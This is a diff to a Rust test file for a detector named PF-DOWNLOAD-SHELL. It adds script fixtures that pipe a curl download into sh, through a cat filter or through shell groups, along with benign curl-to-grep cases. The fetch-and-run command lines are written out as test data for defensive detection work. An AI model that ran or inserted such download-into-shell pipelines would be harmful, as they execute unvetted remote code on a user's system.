@@ -1,6 +1,7 @@
 //! A download piped into a shell, seen by the pipe itself (fd access): the pipelines whose
 //! command lines say nothing — run from a script file, typed into an interactive shell —
-//! fire; a download piped into grep, and a local file piped into a shell, do not.
+//! fire, also with a filter or a group between the download and the shell; a download
+//! piped into grep (and on into wc), and a local file piped into a shell, do not.
 
 use std::process::{Command, Stdio};
 
@@ -52,10 +53,29 @@ fn a_download_piped_into_a_shell_from_a_script_or_a_terminal_fires_by_its_pipe()
                 "local.sh",
                 format!("cat {} | sh\n", dir.path().join("x.sh").display()),
             ),
+            // One step between the download and the shell: a filter, or each side run
+            // as a group (whose forked subshells are the pipe's first ends).
+            script(
+                "filter.sh",
+                format!("curl -fsS --limit-rate 2k {url} | cat | sh\n"),
+            ),
+            script(
+                "group.sh",
+                format!("{{ curl -fsS --limit-rate 2k {url}; :; }} | {{ :; sh; }}\n"),
+            ),
+            script(
+                "grep2.sh",
+                format!("curl -fsS {url} | grep sleep | wc -l; sleep 2\n"),
+            ),
         ])
     });
     let all = alerts(&records);
-    for (i, what) in [(0, "a script's wget | bash"), (1, "a typed curl | sh")] {
+    for (i, what) in [
+        (0, "a script's wget | bash"),
+        (1, "a typed curl | sh"),
+        (4, "curl | cat | sh"),
+        (5, "{ curl; :; } | { :; sh; }"),
+    ] {
         let attack = family(&[kids.0[i].id()], &records);
         assert!(
             fired_on(&all, "PF-DOWNLOAD-SHELL", &attack),
@@ -67,7 +87,7 @@ fn a_download_piped_into_a_shell_from_a_script_or_a_terminal_fires_by_its_pipe()
             .count();
         assert_eq!(alerts_here, 1, "{what}: one pipeline, one alert: {all:?}");
     }
-    for (i, what) in [(2, "curl | grep"), (3, "cat | sh")] {
+    for (i, what) in [(2, "curl | grep"), (3, "cat | sh"), (6, "curl | grep | wc")] {
         let benign = family(&[kids.0[i].id()], &records);
         assert!(
             !fired_on(&all, "PF-DOWNLOAD-SHELL", &benign),
